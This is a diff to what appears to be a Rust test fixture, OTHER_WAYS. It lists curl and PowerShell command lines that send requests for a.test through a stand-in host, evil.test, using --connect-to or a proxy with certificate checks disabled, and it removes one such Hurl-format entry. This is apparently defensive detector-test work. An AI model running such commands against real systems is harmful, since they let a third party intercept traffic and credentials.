@@ -370,7 +370,7 @@ fn no_line_of_a_batch_takes_it_elsewhere() {
 }
 
 /// Lines to `https://a.test`, or `http://plain.test`, that another host may read. Each has the option that lets it.
-const OTHER_WAYS: [(&str, &str); 21] = [
+const OTHER_WAYS: [(&str, &str); 20] = [
     (
         "curl -k --connect-to a.test:443:evil.test:443 https://a.test/x",
         "--connect-to",
@@ -406,10 +406,6 @@ const OTHER_WAYS: [(&str, &str); 21] = [
     ),
     (
         "irm https://a.test/x -SkipCertificateCheck -Proxy http://evil.test",
-        "--proxy",
-    ),
-    (
-        "GET https://a.test/x\n[Options]\ninsecure: true\nproxy: evil.test\nHTTP 200",
         "--proxy",
     ),
     ("```sh\ncurl -k -x evil.test https://a.test/x\n```", "--proxy"),
